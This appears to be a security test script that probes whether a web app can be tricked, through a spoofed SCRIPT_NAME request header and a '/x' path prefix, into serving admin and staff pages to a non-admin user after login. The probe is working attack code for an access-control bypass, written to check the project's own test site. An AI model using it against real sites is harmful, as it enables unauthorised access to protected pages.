"""python -m bench.attacks.header URL NAME PASSWORD: with one request header and a coordinator's password, no key.

A server that believes a header SCRIPT_NAME takes `/x/admin/` for the page `/admin/` of a site at `/x`. Whoever then
guards addresses that begin with `/admin/` guards nothing. The thief types the password at either door. The site must be
one that runs for this purpose.
"""

import http.client
import re
import sys
from http.cookies import SimpleCookie
from urllib.parse import urlencode, urlsplit

PREFIX = "/x"
DOORS = {"/admin/login/": "username", "/work/sign-in/": "login"}
GOALS = ("/admin/shelters/facility/", "/work/people/", "/work/")
Answer = tuple[int, str]


class Thief:
    """A browser's worth of HTTP: cookies are kept, redirects are not followed."""

    def __init__(self, url: str) -> None:
        self._host = urlsplit(url).netloc
        self._cookies: SimpleCookie = SimpleCookie()

    def send(self, path: str, prefix: str, **fields: str) -> Answer:
        """GET a page, or POST a form; with the header where there is a prefix."""
        cookies = "; ".join(f"{name}={morsel.value}" for name, morsel in self._cookies.items())
        headers = {"Cookie": cookies, "Content-Type": "application/x-www-form-urlencoded"}
        headers |= {"SCRIPT_NAME": prefix} if prefix else {}
        connection = http.client.HTTPConnection(self._host, timeout=30)
        try:
            connection.request("POST" if fields else "GET", prefix + path, urlencode(fields), headers)
            answer = connection.getresponse()
            for cookie in answer.headers.get_all("Set-Cookie", []):
                self._cookies.load(cookie)
            return answer.status, answer.read().decode(errors="replace")
        finally:
            connection.close()


def opened(url: str, name: str, password: str) -> list[str]:
    """The pages that open so; none, as it should be. Raises AssertionError where the password is no password."""
    found: list[str] = []
    for door, field in DOORS.items():
        for prefix in ("", PREFIX):
            thief = Thief(url)
            token = re.search(r'name="csrfmiddlewaretoken" value="(\w+)"', thief.send(door, prefix)[1])
            if token:
                given = {field: name, "password": password, "csrfmiddlewaretoken": token[1]}
                assert thief.send(door, prefix, **given)[0] == 302, "the password is right"
            found += [f"{door} {goal}" for goal in GOALS if thief.send(goal, PREFIX)[0] == 200]
    return found


if __name__ == "__main__":
    pages = opened(*sys.argv[1:4])
    print("opened:", ", ".join(pages) or "nothing")
    sys.exit(1 if pages else 0)
